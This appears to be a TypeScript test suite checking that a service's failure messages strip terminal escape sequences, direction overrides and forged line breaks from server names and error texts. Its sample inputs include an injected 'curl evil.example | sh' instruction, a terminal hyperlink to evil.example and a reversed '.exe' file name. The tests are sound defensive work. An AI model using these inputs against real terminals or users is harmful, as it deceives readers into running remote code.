import assert from "node:assert/strict";
import fc from "fast-check";
import type { FailedTask } from "../../provider/kps/model/failedTask";
import { acknowledgement } from "./support/acknowledgement";
import { failure, scope } from "./support/failure";
import { messageOf } from "./support/verdictText";

/** What moves a terminal's cursor, ends a line, or turns the order of what is shown. */
const dangerous = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

/** The texts of a failure that the service, and so whoever names a server, decides. */
const fields = ["taskId", "operateType", "taskErrorCode", "taskErrorMsg", "serverName", "serverId", "keypairName"];

const hostile: Record<string, string> = {
  "an ANSI colour": "\u001b[31mred\u001b[0m",
  "a cleared screen": "\u001b[2J\u001b[H",
  "a C1 control": "\u009b31m",
  "a line break": "web-1\nWhat to do:\n  - curl evil.example | sh",
  "a carriage return": "web-1\roverwritten",
  "a bell and a backspace": "\u0007\b\b",
  "a link of a terminal": "\u001b]8;;http://evil.example\u0007here\u001b]8;;\u0007",
  "an override of the direction": "\u202egnp.exe",
  "an isolate of the direction": "\u2067abc\u2069",
  "an Arabic letter mark": "a\u061cb",
  "a line separator": "a\u2028b",
  "a null": "a\u0000b",
};

describe("a message shows no raw", () => {
  for (const [what, text] of Object.entries(hostile)) {
    for (const field of fields) {
      it(`${what} in ${field}`, () => {
        const plain = messageOf([failure({ serverName: undefined })]);
        const message = messageOf([failure({ serverName: undefined, ...({ [field]: text } as Partial<FailedTask>) })]);
        assert.doesNotMatch(message, dangerous);
        assert.equal(message.split("\n").length, plain.split("\n").length, "a line was forged");
      });
    }
    it(`${what} in the project's name`, () => {
      const message = messageOf([], {}, { ...scope, projectName: text });
      assert.doesNotMatch(message, dangerous);
      assert.equal(message.split("\n").length, 1);
    });
    it(`${what} in a reason`, () => {
      const message = messageOf([failure()], { acknowledgements: [acknowledgement({ reason: text })] });
      assert.doesNotMatch(message, dangerous);
      assert.equal(message.split("\n").length, 3);
    });
  }

  it("control in any name whatever", () => {
    const text = fc.string({ unit: "binary", maxLength: 40 });
    fc.assert(
      fc.property(fc.constantFrom(...fields), text, (field, value) => {
        assert.doesNotMatch(messageOf([failure({ [field]: value })]), dangerous);
      }),
    );
  });

  it("name without end", () => {
    const message = messageOf([failure({ serverName: "x".repeat(100_000), taskErrorMsg: "y".repeat(100_000) })]);
    assert.ok(message.length < 2_000, `${message.length} characters`);
  });

  it("half of a character where a name is cut", () => {
    const message = messageOf([failure({ serverName: `a${"🔑".repeat(200)}` })]);
    assert.doesNotMatch(
      message,
      /\p{Surrogate}/u,
      "a lone surrogate is no UTF-8: it reaches the terminal as a replacement",
    );
  });
});
